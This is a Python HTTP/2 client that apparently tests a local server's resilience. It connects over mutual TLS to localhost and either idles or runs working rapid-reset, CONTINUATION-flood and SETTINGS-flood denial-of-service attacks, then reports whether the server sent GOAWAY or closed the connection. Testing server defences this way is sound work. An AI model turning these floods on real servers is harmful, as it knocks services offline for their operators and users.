"""One HTTP/2 client: `PORT CA CERT KEY [MODE N]`.
Without MODE it idles: sends the preface and SETTINGS, prints "open",
answers SETTINGS and PINGs and sends a PING whenever the server is quiet
for 0.3 s, then prints when the GOAWAY came and when the connection closed.
With MODE it abuses: rapid_reset (HEADERS then RST_STREAM, N streams),
continuation (one HEADERS, then up to N CONTINUATION frames of 16 KiB that
never end the header block) or settings (N SETTINGS frames, never reading
the ACKs); it prints "open" once connected, then one JSON line: frames
sent, whether the server closed the connection, the GOAWAY error code it
sent (if any) and the seconds taken."""
import json, socket, ssl, struct, sys, threading, time

port, ca, cert, key = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
mode, n = (sys.argv[5], int(sys.argv[6])) if len(sys.argv) > 6 else ("idle", 0)
ctx = ssl.create_default_context(cafile=ca)
ctx.load_cert_chain(cert, key)
ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="localhost")
assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def idle():
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    print("open", flush=True)
    start = time.monotonic()
    s.settimeout(0.3)
    buf, goaway, closed = b"", None, None
    while time.monotonic() - start < 20:
        try:
            chunk = s.recv(65536)
            if not chunk:
                closed = time.monotonic() - start
                break
            buf += chunk
        except socket.timeout:
            s.sendall(frame(6, 0, 0, b"12345678"))
            continue
        except (ConnectionError, ssl.SSLError):
            closed = time.monotonic() - start
            break
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, flags, payload = buf[3], buf[4], buf[9:9 + length]
            buf = buf[9 + length:]
            if kind == 4 and not flags & 1:
                s.sendall(frame(4, 1, 0))
            elif kind == 6 and not flags & 1:
                s.sendall(frame(6, 1, 0, payload))
            elif kind == 7 and goaway is None:
                goaway = time.monotonic() - start
    print(f"{goaway} {closed}", flush=True)


if mode == "idle":
    idle()
    sys.exit(0)

# HPACK: :method GET, :scheme https, :path /, :authority localhost (literal, indexed name 1).
REQUEST = bytes([0x82, 0x87, 0x84, 0x01, 9]) + b"localhost"
state = {"goaway": None, "closed": False}


def reader():
    # Reads (so that only the attack, not a full socket, decides) unless
    # the mode is settings, whose point is never reading the ACKs.
    buf = b""
    while True:
        try:
            chunk = s.recv(65536)
        except (OSError, ssl.SSLError):
            break
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, payload = buf[3], buf[9:9 + length]
            buf = buf[9 + length:]
            if kind == 7 and state["goaway"] is None:
                state["goaway"] = int.from_bytes(payload[4:8], "big")
    state["closed"] = True


s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
if mode != "settings":
    threading.Thread(target=reader, daemon=True).start()
print("open", flush=True)
start, sent = time.monotonic(), 0
s.settimeout(10)
try:
    if mode == "rapid_reset":
        for i in range(n):
            stream = 1 + 2 * i
            s.sendall(frame(1, 0x5, stream, REQUEST) + frame(3, 0, stream, struct.pack(">I", 8)))
            sent += 1
    elif mode == "continuation":
        junk = bytes([0x00, 5]) + b"x-pad" + bytes([0x7f, 0x81, 0x7c]) + b"a" * 16000
        s.sendall(frame(1, 0x1, 1, REQUEST))  # END_STREAM, no END_HEADERS
        for _ in range(n):
            s.sendall(frame(9, 0, 1, junk))
            sent += 1
    elif mode == "settings":
        batch = frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 1000
        for _ in range(n // 1000):
            s.sendall(batch)
            sent += 1000
    else:
        sys.exit(f"unknown mode {mode}")
except (OSError, ssl.SSLError):
    pass
if mode == "settings":
    threading.Thread(target=reader, daemon=True).start()
# A flood the server may survive without closing (settings) gets 1 s to be closed.
deadline = time.monotonic() + (1 if mode == "settings" else 5)
while not state["closed"] and time.monotonic() < deadline:
    time.sleep(0.05)
print(json.dumps({"sent": sent, "closed": state["closed"], "goaway": state["goaway"],
                  "seconds": round(time.monotonic() - start, 2)}), flush=True)
